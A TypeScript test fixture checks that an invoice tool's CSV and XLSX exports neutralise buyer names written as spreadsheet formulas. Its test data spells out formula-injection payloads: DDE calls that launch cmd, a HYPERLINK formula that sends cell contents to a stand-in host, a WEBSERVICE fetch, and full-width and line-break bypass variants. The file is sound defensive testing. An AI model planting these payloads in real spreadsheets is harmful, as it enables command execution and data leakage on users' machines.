import type { BadInput, ExpectedRow } from "./bad-input.ts";
import { columnOrder, csvText, headings, readRow, soundCells, soundValues, utf8 } from "./example-table.ts";
import { workbookOf } from "./workbook-writer.ts";

/** Buyers' names as an attacker writes them, and the cell every export makes of them. */
const names: readonly (readonly [name: string, buyer: string, exported: string])[] = [
  ["command", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["hyperlink", '=HYPERLINK("http://example.com/?"&A1,"点我")', '"\'=HYPERLINK(""http://example.com/?""&A1,""点我"")"'],
  ["fetch", "=WEBSERVICE(CONCATENATE(A2:A9))", "'=WEBSERVICE(CONCATENATE(A2:A9))"],
  ["plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["at", "@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"],
  ["full-width-equals", "＝1+1", "'＝1+1"],
  ["full-width-plus", "＋1+1", "'＋1+1"],
  ["full-width-minus", "－1+x", "'－1+x"],
  ["full-width-at", "＠SUM(A1)", "'＠SUM(A1)"],
  ["quoted-twice", "''=1+1", "''=1+1"],
  ["line-break-inside", "甲\n=1+1", '"甲\n=1+1"'],
  ["quote-that-ends-the-cell", '甲",=1+1,"', '"甲"",=1+1,"""'],
  ["dde-in-capitals", '=DDE("cmd";"/C calc";"x")', '"\'=DDE(""cmd"";""/C calc"";""x"")"'],
];

/** Names that begin like nothing a spreadsheet works out: they go out as they are. */
const harmless: readonly (readonly [name: string, buyer: string])[] = [
  ["equals-inside", "甲=乙商贸（测试）"],
  ["minus-inside", "北京-样例（测试）"],
  ["at-inside", "样例@北京（测试）"],
  ["brackets", "（测试）样例"],
];

/** F23: nothing that comes in as text goes out as a formula, and it is read back as what it was. */
export const formulas: readonly BadInput[] = [
  ...names.flatMap(([name, buyer, exported]) => [inList(name, buyer, exported), inWorkbook(name, buyer, exported)]),
  ...harmless.map(([name, buyer]) => inList(`harmless-${name}`, buyer, buyer)),
];

function inList(name: string, buyer: string, exported: string): BadInput {
  const bytes = () => utf8(csvText([{ ...soundCells(11), buyer }]));
  return { name: `formula-${name}`, fault: "F23", file: `${name}.csv`, bytes, expected: outcome(buyer, exported) };
}

function inWorkbook(name: string, buyer: string, exported: string): BadInput {
  const cells = { ...soundCells(11), buyer };
  const bytes = () =>
    workbookOf({ sheets: [{ rows: [columnOrder.map((c) => headings[c]), columnOrder.map((c) => cells[c])] }] });
  return {
    name: `formula-${name}-xlsx`,
    fault: "F23",
    file: `${name}.xlsx`,
    bytes,
    expected: outcome(buyer, exported),
  };
}

function outcome(buyer: string, exported: string) {
  const read = buyer.startsWith("''=") ? buyer.slice(1) : buyer;
  const repairs = read === buyer ? [] : ["STRIPPED_MARKS buyer.name"];
  const rows: ExpectedRow[] = [readRow(2, soundValues(11, { buyer: read }), { repairs })];
  return { refused: null, rows, exported: exportsOf(exported) };
}

/** Rows handed back and lists say the same: an apostrophe that escapes is no part of a name. */
function exportsOf(exported: string) {
  const number = '"\t25112000009990000011"';
  const cells = columnOrder.map((column) => {
    if (column === "buyer") return exported;
    const cell = soundCells(11)[column];
    if (column === "digital") return number;
    return column === "classification" ? `"\t${cell}"` : cell;
  });
  return {
    failedRows: `\uFEFF${columnOrder.map((column) => headings[column]).join(",")},原因\r\n${cells.join(",")},原因\r\n`,
    lists: `\uFEFF行号,发票号码,购买方名称\r\n2,${number},${exported}\r\n`,
  };
}
